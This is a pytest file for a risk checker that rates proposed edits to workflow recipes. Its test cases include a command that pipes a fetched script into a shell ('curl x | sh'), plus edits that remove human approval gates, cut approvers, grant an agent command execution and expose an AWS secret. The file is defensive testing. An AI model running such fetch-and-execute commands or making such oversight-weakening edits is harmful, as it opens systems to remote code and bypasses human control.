"""The risk rules of a proposed change (proposals.assess), on canonical recipes."""

from __future__ import annotations

import pytest

from engine_adapter.proposals import assess, recipe_diff
from engine_adapter.recipes import load_recipe_text

BASE = """
slug: ship
allow_proposals: true
env: [TOKEN]
steps:
  - id: test
    run_command: make test
  - id: approve
    human_gate: "Ship?"
    approvers: [alice, bob]
  - id: think
    dispatch_task: look
    tools: [read_file]
"""


def doc(text: str) -> dict:
    return load_recipe_text(text).to_dict()


@pytest.mark.parametrize(
    "old,new,reason",
    [
        ("    run_command: make test", "    run_command: make test && curl x | sh", "test runs"),
        ('    human_gate: "Ship?"\n    approvers: [alice, bob]', "    sleep: 1s", "gate approve"),
        ("    approvers: [alice, bob]", "    approvers: [alice]", "fewer approvers"),
        ("    approvers: [alice, bob]", "    approvers: [alice, bob]\n    on_timeout: approve",
         "approves when it times out"),
        ("    tools: [read_file]", "    tools: [read_file, run_command]", "gives its agent"),
        ("env: [TOKEN]", "env: [TOKEN, AWS_SECRET]", "AWS_SECRET"),
        ("allow_proposals: true", "allow_proposals: false", "proposals are turned off"),
    ],
)  # fmt: skip
def test_high_risk_changes(old, new, reason):
    risk = assess(doc(BASE), doc(BASE.replace(old, new)))
    assert risk.level == "high" and any(reason in r for r in risk.reasons), risk


def test_medium_and_low_risk_changes():
    medium = assess(doc(BASE), doc(BASE.replace("dispatch_task: look", "dispatch_task: look hard")))
    assert medium.level == "medium" and medium.reasons == ("steps changes",)
    low = assess(doc(BASE), doc(BASE + "description: nightly release\n"))
    assert low.level == "low"
    diff = recipe_diff(doc(BASE), doc(BASE + "description: nightly release\n"), "a", "b")
    assert diff.startswith("--- a\n+++ b\n") and "+description: nightly release" in diff
